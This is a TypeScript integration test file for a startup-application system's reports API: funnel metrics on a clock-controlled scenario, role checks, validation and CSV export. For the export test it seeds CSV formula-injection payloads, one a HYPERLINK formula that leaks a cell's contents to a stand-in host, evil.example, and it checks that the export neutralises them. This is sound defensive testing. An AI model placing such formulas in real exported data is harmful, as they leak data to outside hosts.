import { parseCsv } from './support/csv';
import { auth } from './support/cases';
import { COMPLETE_APPLICATION, HHSF_PROFILE } from './support/fixtures';
import { ADMIN, createStaff, createTestApp, login, registerFounder, TestApp } from './support/test-app';

/**
 * Reports (the contract's `/reports` routes; issue 7): the funnel on a hand-computed scenario driven
 * by a controlled clock, role checks, validation, and the CSV export of 10,000 seeded cases read
 * back with an RFC 4180 parser (quoting round-trips, formula-like cells neutralised).
 */

const API = '/api/v1';
type Account = { token: string; id: string; email: string };



const CONTRACT_HEADER = ['reference', 'startupName', 'status', 'programme', 'assignee', 'submittedAt', 'decidedAt'];

describe('reports', () => {
  describe('the funnel on a hand-computed scenario', () => {
    let t: TestApp;
    let adminToken: string;
    let founder: Account;
    let advisor: Account;
    let manager: Account;
    const cases: Record<string, string> = {};

    async function version(id: string): Promise<number> {
      return (await t.http.get(`${API}/applications/${id}`).set(...auth(advisor.token)).expect(200)).body.version as number;
    }
    async function at(instant: string, action: () => Promise<unknown>): Promise<void> {
      t.clock.set(instant);
      await action();
    }
    async function submit(key: string, profile: Record<string, unknown>, expectedTop: string): Promise<void> {
      const draft = await t.http.post(`${API}/applications`).set(...auth(founder.token)).send({ ...COMPLETE_APPLICATION, ...profile, startupName: `Startup ${key}` }).expect(201);
      const res = await t.http.post(`${API}/applications/${draft.body.id}/submit`).set(...auth(founder.token)).send({}).expect(200);
      expect([key, res.body.recommendations.eligible[0].programme]).toEqual([key, expectedTop]);
      cases[key] = res.body.id as string;
    }
    async function transition(key: string, body: Record<string, unknown>): Promise<void> {
      await t.http.post(`${API}/applications/${cases[key]}/transitions`).set(...auth(advisor.token)).send({ expectedVersion: await version(cases[key]), ...body }).expect(200);
    }
    async function staffMessage(key: string): Promise<void> {
      await t.http.post(`${API}/applications/${cases[key]}/messages`).set(...auth(advisor.token)).send({ body: 'Hello from the campus' }).expect(201);
    }
    async function founderMessage(key: string): Promise<void> {
      await t.http.post(`${API}/applications/${cases[key]}/messages`).set(...auth(founder.token)).send({ body: 'Here is our answer' }).expect(201);
    }
    async function assignAndNote(key: string): Promise<void> {
      await t.http.post(`${API}/applications/${cases[key]}/assign`).set(...auth(advisor.token)).send({ assigneeId: advisor.id, expectedVersion: await version(cases[key]) }).expect(200);
      await t.http.post(`${API}/applications/${cases[key]}/notes`).set(...auth(advisor.token)).send({ body: 'internal' }).expect(201);
    }
    async function withdraw(key: string): Promise<void> {
      await t.http.post(`${API}/applications/${cases[key]}/withdraw`).set(...auth(founder.token)).send({}).expect(200);
    }
    async function funnel(query: string, token = manager.token): Promise<Record<string, unknown>> {
      const res = await t.http.get(`${API}/reports/funnel?${query}`).set(...auth(token));
      if (res.status !== 200) throw new Error(`funnel?${query} answered ${res.status}: ${JSON.stringify(res.body)}`);
      return res.body;
    }

    beforeAll(async () => {
      t = await createTestApp({ now: '2027-02-26T08:00:00Z', env: { APP_ROLE: 'api' } });
      adminToken = await login(t.http, ADMIN.email, ADMIN.password);
      founder = await registerFounder(t.http, { locale: 'en' });
      advisor = await createStaff(t.http, adminToken, { role: 'advisor', fullName: 'Anne Advisor', capacity: 50 });
      manager = await createStaff(t.http, adminToken, { role: 'programme_manager', fullName: 'Paul Manager', programmes: ['poc-funding'] });

      // Times are UTC; Paris is UTC+1 until 28 March 2027. The period under report is Monday 1
      // to Friday 5 March 2027 (Paris), i.e. [2027-02-28T23:00Z, 2027-03-05T23:00Z).
      // COMPLETE_APPLICATION's top recommendation is poc-funding; HHSF_PROFILE's the Human Health Startup Factory.
      const POC = 'poc-funding';
      const HHSF = 'human-health-startup-factory';
      await at('2027-02-26T09:00:00Z', () => submit('G', {}, POC)); // before the period
      await at('2027-02-28T23:30:00Z', () => submit('I', {}, POC)); // Monday 00:30 Paris: inside
      await at('2027-03-01T08:30:00Z', () => transition('G', { to: 'in_review' }));
      await at('2027-03-01T09:00:00Z', () => submit('A', {}, POC));
      await at('2027-03-01T09:30:00Z', () => assignAndNote('A')); // assignment and notes are not responses
      await at('2027-03-01T10:00:00Z', () => submit('B', {}, POC));
      await at('2027-03-01T12:00:00Z', () => founderMessage('B')); // a founder's message is not a response
      await at('2027-03-01T15:00:00Z', () => transition('A', { to: 'in_review' })); // A answered after 6 h
      await at('2027-03-01T21:30:00Z', () => transition('I', { to: 'in_review' })); // I answered after 22 h
      await at('2027-03-02T09:00:00Z', () => transition('I', { to: 'accepted', programme: POC })); // I decided after 1 business day
      await at('2027-03-02T09:00:00Z', () => submit('C', HHSF_PROFILE, HHSF));
      await at('2027-03-02T10:00:00Z', () => staffMessage('B')); // B answered after 24 h
      await at('2027-03-02T10:00:00Z', () => submit('J', {}, POC));
      await at('2027-03-02T11:00:00Z', () => transition('C', { to: 'info_requested', message: 'Your incorporation papers, please.' })); // C answered after 2 h
      await at('2027-03-02T14:00:00Z', () => transition('G', { to: 'info_requested', message: 'Which lab?' }));
      await at('2027-03-03T09:00:00Z', () => submit('D', HHSF_PROFILE, HHSF));
      await at('2027-03-03T14:00:00Z', () => founderMessage('G')); // G back in_review
      await at('2027-03-04T09:00:00Z', () => submit('E', {}, POC));
      await at('2027-03-04T10:00:00Z', () => transition('A', { to: 'accepted', programme: 'startup-studio' })); // A decided after 3 business days
      await at('2027-03-04T12:00:00Z', () => withdraw('E')); // withdrawn unanswered, well before its due date
      await at('2027-03-05T09:00:00Z', () => submit('F', {}, POC)); // never answered: breached from 13 March
      await at('2027-03-05T10:00:00Z', () => assignAndNote('F'));
      await at('2027-03-05T13:00:00Z', () => transition('D', { to: 'in_review' })); // D: 52 h (a decision is only taken from in_review)
      await at('2027-03-05T13:00:00Z', () => transition('D', { to: 'referred', programme: 'external-incubator' })); // D: 2 business days
      await at('2027-03-05T15:00:00Z', () => transition('G', { to: 'declined', reason: 'Out of scope' }));
      await at('2027-03-05T23:30:00Z', () => submit('H', {}, POC)); // Saturday 00:30 Paris: after the period
      await at('2027-03-08T09:00:00Z', () => transition('H', { to: 'in_review' })); // H answered after 57.5 h
      await at('2027-03-11T10:00:00Z', () => withdraw('J')); // J withdrawn unanswered after its first-response due date (end of 9 March)
      // B decided after 20 business days (after the period): 2–5, 8–12, 15–19, 22–26 and 30 March; Monday 29 is Easter Monday
      await at('2027-03-30T10:00:00Z', () => transition('B', { to: 'in_review' }));
      await at('2027-03-30T10:00:00Z', () => transition('B', { to: 'declined', reason: 'Not ready' }));
      t.clock.set('2027-04-02T12:00:00Z'); // the report is read on Friday 2 April
    });
    afterAll(() => t.close());

    it('counts the moves of the period and computes medians and service levels over its submissions', async () => {
      // counts (events in the period): submitted I A B C J D E F; in_review G (1 Mar) I A G (3 Mar, resumed) D (5 Mar);
      // info_requested C G; accepted I A; referred D; declined G (B on 30 March is outside); withdrawn E (J on 11 March is outside)
      // cohort (submitted in the period): I A B C J D E F
      //   hours to first response: C 2, A 6, I 22, B 24, D 52 → median 22 (J, E, F never answered)
      //   business days to decision: I 1 (Mon 1 Paris → Tue 2), D 2, A 3, B 20 → median (2 + 3) / 2 = 2.5
      //   first response: met I A B C D; missed J (withdrawn after its due date), F (still open, was due 12 March);
      //     E withdrawn in time: not settled → 5 / 7 = 71.4 %
      //   decision: met I A B D; C paused, J withdrawn in time, F (due 19 April) and E not settled → 4 / 4 = 100 %
      const report = await funnel('from=2027-03-01&to=2027-03-05');
      expect(report).toEqual({
        from: '2027-03-01',
        to: '2027-03-05',
        programme: null,
        counts: { submitted: 8, in_review: 5, info_requested: 2, accepted: 2, referred: 1, declined: 1, withdrawn: 1 },
        medianHoursToFirstResponse: 22,
        medianBusinessDaysToDecision: 2.5,
        firstResponseMetPct: 71.4,
        decisionMetPct: 100,
        period: { start: '2027-02-28T23:00:00.000Z', end: '2027-03-05T23:00:00.000Z' },
        cohort: { submitted: 8, firstResponses: 5, decisions: 4, firstResponseSettled: 7, firstResponseMet: 5, decisionSettled: 4, decisionMet: 4 },
        generatedAt: '2027-04-02T12:00:00.000Z',
      });
    });

    it('filters by programme: the decision’s programme for accepted/referred, the case’s inbox programme otherwise', async () => {
      // inbox programmes now: I poc (accepted into it), A startup-studio, B poc (declined: its top recommendation),
      // C human-health-startup-factory, J E F G H poc, D external-incubator
      // poc-funding: submitted I B J E F; in_review G I G; info_requested G; accepted I; declined G; withdrawn E
      //   hours I 22, B 24 → 23; business days I 1, B 20 → 10.5; first response met I B, missed J F → 50 %; decision met I B → 100 %
      expect(await funnel('from=2027-03-01&to=2027-03-05&programme=poc-funding')).toMatchObject({
        programme: 'poc-funding',
        counts: { submitted: 5, in_review: 3, info_requested: 1, accepted: 1, referred: 0, declined: 1, withdrawn: 1 },
        medianHoursToFirstResponse: 23,
        medianBusinessDaysToDecision: 10.5,
        firstResponseMetPct: 50,
        decisionMetPct: 100,
        cohort: { submitted: 5, firstResponses: 2, decisions: 2, firstResponseSettled: 4, firstResponseMet: 2, decisionSettled: 2, decisionMet: 2 },
      });
      // HHSF: C only (D was referred, it now belongs to external-incubator): nothing decided → nulls
      expect(await funnel('from=2027-03-01&to=2027-03-05&programme=human-health-startup-factory')).toMatchObject({
        counts: { submitted: 1, in_review: 0, info_requested: 1, accepted: 0, referred: 0, declined: 0, withdrawn: 0 },
        medianHoursToFirstResponse: 2,
        medianBusinessDaysToDecision: null,
        firstResponseMetPct: 100,
        decisionMetPct: null,
      });
      // the referral counts under the programme it was referred to (and so does D's review, its inbox programme now)
      expect(await funnel('from=2027-03-01&to=2027-03-05&programme=external-incubator')).toMatchObject({
        counts: { submitted: 1, in_review: 1, info_requested: 0, accepted: 0, referred: 1, declined: 0, withdrawn: 0 },
        medianHoursToFirstResponse: 52,
        medianBusinessDaysToDecision: 2,
        firstResponseMetPct: 100,
        decisionMetPct: 100,
      });
      expect(await funnel('from=2027-03-01&to=2027-03-05&programme=startup-studio')).toMatchObject({
        counts: { submitted: 1, in_review: 1, info_requested: 0, accepted: 1, referred: 0, declined: 0, withdrawn: 0 },
        medianHoursToFirstResponse: 6,
        medianBusinessDaysToDecision: 3,
      });
      // a programme with nothing: zeros and nulls
      expect(await funnel('from=2027-03-01&to=2027-03-05&programme=competitiveness-cluster')).toMatchObject({
        counts: { submitted: 0, in_review: 0, info_requested: 0, accepted: 0, referred: 0, declined: 0, withdrawn: 0 },
        medianHoursToFirstResponse: null,
        medianBusinessDaysToDecision: null,
        firstResponseMetPct: null,
        decisionMetPct: null,
      });
    });

    it('cuts days at midnight Europe/Paris', async () => {
      // Monday 1 March (Paris): I's submission at 00:30 Paris and its review at 22:30 Paris are in; H's Saturday submission is not
      // submitted I A B; in_review G I A; hours A 6, I 22, B 24 → 22; business days I 1, A 3, B 20 → 3
      expect(await funnel('from=2027-03-01&to=2027-03-01')).toMatchObject({
        counts: { submitted: 3, in_review: 3, info_requested: 0, accepted: 0, referred: 0, declined: 0, withdrawn: 0 },
        medianHoursToFirstResponse: 22,
        medianBusinessDaysToDecision: 3,
        firstResponseMetPct: 100,
        decisionMetPct: 100,
      });
      // Saturday 6 March: H, submitted at 00:30 Paris, answered Monday after 57.5 h, decision clock still running
      expect(await funnel('from=2027-03-06&to=2027-03-06')).toMatchObject({
        counts: { submitted: 1, in_review: 0, info_requested: 0, accepted: 0, referred: 0, declined: 0, withdrawn: 0 },
        medianHoursToFirstResponse: 57.5,
        medianBusinessDaysToDecision: null,
        firstResponseMetPct: 100,
        decisionMetPct: null,
      });
    });

    it('judges open clocks against the clock’s now; a pause on a request for information is not a breach', async () => {
      // 1 June: F's decision was due at the end of 19 April and it is still open → missed (4 met / 5 settled);
      // C has waited on its founder since 2 March: its decision due date moves with the wait → still not settled
      t.clock.set('2027-06-01T10:00:00Z');
      try {
        expect(await funnel('from=2027-03-01&to=2027-03-05')).toMatchObject({ firstResponseMetPct: 71.4, decisionMetPct: 80, cohort: { decisionSettled: 5, decisionMet: 4 } });
        // poc-funding: I B met, F missed → 66.7 %
        expect(await funnel('from=2027-03-01&to=2027-03-05&programme=poc-funding')).toMatchObject({ decisionMetPct: 66.7 });
        expect(await funnel('from=2027-03-01&to=2027-03-05&programme=human-health-startup-factory')).toMatchObject({ decisionMetPct: null });
      } finally {
        t.clock.set('2027-04-02T12:00:00Z');
      }
    });

    it('is for staff: advisors, managers and admins read it; founders get 403', async () => {
      await funnel('from=2027-03-01&to=2027-03-05', advisor.token);
      await funnel('from=2027-03-01&to=2027-03-05', adminToken);
      await t.http.get(`${API}/reports/funnel?from=2027-03-01&to=2027-03-05`).set(...auth(founder.token)).expect(403);
      await t.http.get(`${API}/reports/funnel?from=2027-03-01&to=2027-03-05`).expect(401);
    });

    it('validates the query, naming every failing field', async () => {
      const fields = async (query: string): Promise<string[]> => {
        const res = await t.http.get(`${API}/reports/funnel?${query}`).set(...auth(advisor.token)).expect(400);
        expect(res.body).toMatchObject({ statusCode: 400, error: 'Bad Request' });
        return (res.body.errors as { field: string }[]).map((e) => e.field);
      };
      expect(await fields('')).toEqual(['from', 'to']);
      expect(await fields('from=2027-03-01')).toEqual(['to']);
      expect(await fields('from=2027-02-30&to=2027-03-05')).toEqual(['from']);
      expect(await fields('from=01/03/2027&to=2027-03-05')).toEqual(['from']);
      expect(await fields('from=2027-03-05&to=2027-03-01')).toEqual(['to']);
      expect(await fields('from=2020-01-01&to=2025-01-02')).toEqual(['to']);
      expect(await fields('from=2027-03-01&to=2027-03-05&programme=no-such-programme')).toEqual(['programme']);
      expect(await fields('from=2027-03-01&to=2027-03-05&programme=NOT%20A%20SLUG')).toEqual(['programme']);
      expect(await fields('from=nope&programme=no-such-programme')).toEqual(['from', 'to', 'programme']);
      expect(await fields('from=2027-03-01&to=2027-03-05&limit=3')).toEqual(['limit']);
      const res = await t.http.get(`${API}/reports/funnel?from=2027-03-01&to=2027-03-05&programme=nope`).set(...auth(advisor.token)).expect(400);
      expect(res.body.message).toEqual(['programme must be the slug of an existing programme']);
      // five years exactly is allowed
      await funnel('from=2020-01-01&to=2025-01-01');
    });

    it('exports the scenario as CSV with the inbox’s filters (managers and admins only)', async () => {
      const csv = async (query: string): Promise<string[][]> => {
        const res = await t.http.get(`${API}/reports/applications.csv?${query}`).set(...auth(manager.token)).expect(200);
        return parseCsv(res.text);
      };
      const all = await csv('sort=submittedAt');
      expect(all[0].slice(0, 7)).toEqual(CONTRACT_HEADER);
      expect(all.slice(1).map((r) => r[1])).toEqual(['G', 'I', 'A', 'B', 'C', 'J', 'D', 'E', 'F', 'H'].map((k) => `Startup ${k}`));
      const header = all[0];
      const col = (name: string): number => header.indexOf(name);
      const rowOf = (key: string): string[] => all.find((r) => r[1] === `Startup ${key}`) as string[];
      expect([rowOf('A')[col('status')], rowOf('A')[col('programme')], rowOf('A')[col('assignee')], rowOf('A')[col('assigneeEmail')]]).toEqual(['accepted', 'startup-studio', 'Anne Advisor', advisor.email]);
      expect([rowOf('A')[col('submittedAt')], rowOf('A')[col('decidedAt')], rowOf('A')[col('firstRespondedAt')]]).toEqual(['2027-03-01T09:00:00.000Z', '2027-03-04T10:00:00.000Z', '2027-03-01T15:00:00.000Z']);
      expect([rowOf('F')[col('decidedAt')], rowOf('F')[col('firstResponseDueAt')], rowOf('F')[col('firstResponseServiceLevel')], rowOf('F')[col('decisionServiceLevel')]]).toEqual(['', '2027-03-12T22:59:59.999Z', 'breached', 'on_track']);
      expect((await csv('status=withdrawn')).slice(1).map((r) => r[1])).toEqual(['Startup E', 'Startup J']);
      expect((await csv('sla=breached')).slice(1).map((r) => r[1])).toEqual(['Startup F']);
      expect((await csv('programme=human-health-startup-factory')).slice(1).map((r) => r[1])).toEqual(['Startup C']);
      expect((await csv(`assignee=${advisor.id}&sort=submittedAt`)).slice(1).map((r) => r[1])).toEqual(['Startup A', 'Startup F']);
      expect((await csv('q=startup%20d')).slice(1).map((r) => r[1])).toEqual(['Startup D']);
      expect(await csv('status=draft')).toEqual([header]);

      await t.http.get(`${API}/reports/applications.csv`).set(...auth(adminToken)).expect(200);
      await t.http.get(`${API}/reports/applications.csv`).set(...auth(advisor.token)).expect(403);
      await t.http.get(`${API}/reports/applications.csv`).set(...auth(founder.token)).expect(403);
      const bad = await t.http.get(`${API}/reports/applications.csv?sort=bogus&status=nope&limit=5`).set(...auth(manager.token)).expect(400);
      expect((bad.body.errors as { field: string }[]).map((e) => e.field).sort()).toEqual(['limit', 'sort', 'status']);
    });

    // last: it changes the scenario
    it('rolls past days up, and a case that changes programme or closes afterwards moves its figures', async () => {
      const queries = ['', '&programme=poc-funding', '&programme=human-health-startup-factory'].map((p) => `from=2027-03-01&to=2027-03-05${p}`);
      const read = (): Promise<Record<string, unknown>[]> => Promise.all(queries.map((q) => funnel(q)));
      /** the same reports computed from the timeline and the cases alone, nothing rolled up */
      const fromScratch = async (): Promise<Record<string, unknown>[]> => {
        await t.db.query('DELETE FROM funnel_days');
        const reports: Record<string, unknown>[] = [];
        for (const q of queries) {
          reports.push(await funnel(q));
          await t.db.query('DELETE FROM funnel_days');
        }
        return reports;
      };
      const rolledUp = async (): Promise<{ day: string; stale: boolean }[]> =>
        (await t.db.query(`SELECT day::text, stale FROM funnel_days WHERE day BETWEEN '2027-03-01' AND '2027-03-05' ORDER BY day`)).rows;
      const MARCH = ['2027-03-01', '2027-03-02', '2027-03-03', '2027-03-04', '2027-03-05'];

      const cached = await read();
      expect(await rolledUp()).toEqual(MARCH.map((day) => ({ day, stale: false })));
      expect(await read()).toEqual(cached);
      expect(await fromScratch()).toEqual(cached);

      // C (Human Health Startup Factory, waiting on its founder since 2 March) answers and is
      // accepted into poc-funding on 2 April: its 2 March moves now count under poc-funding,
      // and it joins the decided cases of the cohort
      await read();
      await founderMessage('C');
      await transition('C', { to: 'accepted', programme: 'poc-funding' });
      expect((await rolledUp()).filter((d) => d.stale).map((d) => d.day)).toEqual(['2027-03-02']);
      const [all, poc, hhsf] = await read();
      expect(all).toMatchObject({ counts: cached[0].counts, cohort: { submitted: 8, decisions: 5 } });
      expect(poc).toMatchObject({ counts: { submitted: 6, info_requested: 2 }, cohort: { submitted: 6, decisions: 3 } });
      expect(hhsf).toMatchObject({ counts: { submitted: 0, info_requested: 0 }, cohort: { submitted: 0 } });
      expect(await rolledUp()).toEqual(MARCH.map((day) => ({ day, stale: false })));
      expect(await fromScratch()).toEqual([all, poc, hhsf]);

      // reopened, A's decision is undone: its case is read live again, its first decision still counts
      await t.http.post(`${API}/applications/${cases.A}/transitions`).set(...auth(adminToken)).send({ expectedVersion: await version(cases.A), to: 'in_review', reason: 'Wrong programme' }).expect(200);
      const reopened = await read();
      expect(reopened[0]).toMatchObject({ counts: cached[0].counts, cohort: { decisions: 5 } });
      expect(await fromScratch()).toEqual(reopened);
    });
  });

  describe('the CSV export of 10,000 cases', () => {
    const N = 10_000;
    const HOSTILE: Record<number, string> = {
      1: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      2: '+1',
      3: '-2',
      4: '@SUM(A1)',
      5: 'Acme, "Quoted" &\nNewline',
      6: '\tTabbed',
      7: '\rCarriage',
      8: 'Crème brûlée Santé 漢字',
    };
    let t: TestApp;
    let manager: Account;
    let advisor: Account;

    beforeAll(async () => {
      t = await createTestApp({ now: '2030-03-01T10:00:00Z', env: { APP_ROLE: 'api' } });
      const adminToken = await login(t.http, ADMIN.email, ADMIN.password);
      manager = await createStaff(t.http, adminToken, { role: 'programme_manager', programmes: ['poc-funding'] });
      advisor = await createStaff(t.http, adminToken, { role: 'advisor', fullName: 'Zoé, "the" Advisor' });
      const founder = await registerFounder(t.http);
      // 10,000 submitted cases in one statement; three share each submission minute so that
      // keyset batches break inside ties; every third is assigned to the advisor
      await t.db.query(
        `INSERT INTO applications (reference, owner_id, assignee_id, status, startup_name, project_summary, stage, trl, domains, needs,
           incorporated, academic_affiliation, looking_for_cofounder, team_size, funding_sought_eur, locale, top_programme,
           submitted_at, first_response_due_at, decision_due_at, created_at, updated_at)
         SELECT 'GU-2030-' || lpad(i::text, 6, '0'), $1, CASE WHEN i % 3 = 0 THEN $2::uuid END, 'submitted',
                coalesce(($3::jsonb)->>(i::text), 'Startup ' || lpad(i::text, 5, '0')),
                'A seeded application for the CSV export test, long enough to be a real summary.',
                'idea', 3, '{medtech,ai}', '{funding,coaching}', false, 'inserm', false, 3, 150000, 'fr', 'poc-funding',
                $4::timestamptz + (i / 3) * interval '1 minute',
                $4::timestamptz + (i / 3) * interval '1 minute' + interval '7 days',
                $4::timestamptz + (i / 3) * interval '1 minute' + interval '42 days',
                $4::timestamptz, $4::timestamptz
         FROM generate_series(1, ${N}) AS i`,
        [founder.id, advisor.id, JSON.stringify(HOSTILE), '2030-01-01T00:00:00Z'],
      );
      // drafts never reach staff, nor their export
      await t.db.query(
        `INSERT INTO applications (reference, owner_id, status, startup_name) SELECT 'GU-2029-' || lpad(i::text, 6, '0'), $1, 'draft', 'Draft ' || i FROM generate_series(1, 50) AS i`,
        [founder.id],
      );
    });
    afterAll(() => t.close());

    it('streams every case as RFC 4180 CSV, quoting and neutralising hostile cells', async () => {
      const res = await t.http.get(`${API}/reports/applications.csv`).set(...auth(manager.token)).expect(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe('attachment; filename="applications-2030-03-01.csv"');
      expect(res.headers['transfer-encoding']).toBe('chunked');
      expect(res.text.startsWith('reference,startupName,status,programme,assignee,submittedAt,decidedAt,')).toBe(true); // no BOM

      const rows = parseCsv(res.text);
      const [header, ...data] = rows;
      expect(header.slice(0, 7)).toEqual(CONTRACT_HEADER);
      expect(header).toEqual(expect.arrayContaining(['firstResponseDueAt', 'decisionDueAt', 'stage', 'trl', 'assigneeEmail']));
      expect(data).toHaveLength(N);
      expect(data.every((r) => r.length === header.length)).toBe(true);
      const col = (name: string): number => header.indexOf(name);

      // every case once, none of the drafts, newest submission first (the inbox's default order)
      const references = data.map((r) => r[col('reference')]);
      expect(new Set(references).size).toBe(N);
      expect(references.every((r) => r.startsWith('GU-2030-'))).toBe(true);
      const submitted = data.map((r) => r[col('submittedAt')]);
      expect(submitted.every((s, i) => i === 0 || s <= submitted[i - 1])).toBe(true);
      expect(submitted[0]).toBe('2030-01-03T07:33:00.000Z'); // 10000 / 3 = 3333 minutes after 1 January 00:00
      expect(submitted[N - 1]).toBe('2030-01-01T00:00:00.000Z');

      const byRef = new Map(data.map((r) => [r[col('reference')], r]));
      const name = (i: number): string => byRef.get(`GU-2030-${String(i).padStart(6, '0')}`)![col('startupName')];
      expect(name(1)).toBe(`'${HOSTILE[1]}`);
      expect(name(2)).toBe("'+1");
      expect(name(3)).toBe("'-2");
      expect(name(4)).toBe("'@SUM(A1)");
      expect(name(5)).toBe(HOSTILE[5]); // commas, quotes and the newline round-trip untouched
      expect(name(6)).toBe("'\tTabbed");
      expect(name(7)).toBe("'\rCarriage");
      expect(name(8)).toBe(HOSTILE[8]);
      expect(name(9)).toBe('Startup 00009');
      // no cell anywhere starts a formula
      expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

      const assigned = byRef.get('GU-2030-000003')!;
      expect([assigned[col('assignee')], assigned[col('assigneeEmail')], assigned[col('assigneeId')]]).toEqual(['Zoé, "the" Advisor', advisor.email, advisor.id]);
      expect(byRef.get('GU-2030-000004')![col('assignee')]).toBe('');
      const sample = byRef.get('GU-2030-000009')!;
      expect(Object.fromEntries(['status', 'programme', 'recommendedProgramme', 'decidedAt', 'stage', 'trl', 'domains', 'fundingSoughtEur', 'firstResponseDueAt'].map((c) => [c, sample[col(c)]]))).toEqual({
        status: 'submitted',
        programme: '',
        recommendedProgramme: 'poc-funding',
        decidedAt: '',
        stage: 'idea',
        trl: '3',
        domains: 'medtech|ai',
        fundingSoughtEur: '150000',
        firstResponseDueAt: '2030-01-08T00:03:00.000Z',
      });
    });

    it('answers the excel dialect with a UTF-8 BOM and semicolons, the same cells otherwise', async () => {
      const rfc = await t.http.get(`${API}/reports/applications.csv?q=HYPERLINK`).set(...auth(manager.token)).expect(200);
      const excel = await t.http
        .get(`${API}/reports/applications.csv?q=HYPERLINK&dialect=excel`)
        .set(...auth(manager.token))
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () => done(null, Buffer.concat(chunks)));
        })
        .expect(200);
      const bytes = excel.body as Buffer;
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(excel.headers['content-type']).toBe('text/csv; charset=utf-8');
      const text = bytes.subarray(3).toString('utf8');
      expect(text.startsWith('reference;startupName;status;programme;assignee;submittedAt;decidedAt;')).toBe(true);
      expect(parseCsv(text, ';')).toEqual(parseCsv(rfc.text));
      expect(parseCsv(text, ';')[1][1]).toMatch(/^'=HYPERLINK/); // still neutralised
      // the default stays as it was: no BOM, commas
      expect(rfc.text.startsWith('reference,startupName,')).toBe(true);
      const bad = await t.http.get(`${API}/reports/applications.csv?dialect=ods`).set(...auth(manager.token)).expect(400);
      expect(bad.body.errors.map((e: { field: string }) => e.field)).toEqual(['dialect']);
    });

    it('applies the inbox filters and sorts across batches', async () => {
      const csv = async (query: string): Promise<string[][]> => parseCsv((await t.http.get(`${API}/reports/applications.csv?${query}`).set(...auth(manager.token)).expect(200)).text).slice(1);
      const mine = await csv(`assignee=${advisor.id}&sort=submittedAt`);
      expect(mine).toHaveLength(3333);
      expect(new Set(mine.map((r) => r[0])).size).toBe(3333);
      expect(mine[0][0]).toBe('GU-2030-000003');
      expect(mine[3332][0]).toBe('GU-2030-009999');
      expect((await csv('q=HYPERLINK')).map((r) => r[0])).toEqual(['GU-2030-000001']);
      expect((await csv('q=startup%200000&sort=submittedAt')).map((r) => r[0])).toEqual(['GU-2030-000009']);
      expect(await csv('status=in_review')).toEqual([]);
      expect(await csv('sort=decisionDueAt&assignee=unassigned&status=submitted')).toHaveLength(N - 3333);
    });
  });
});
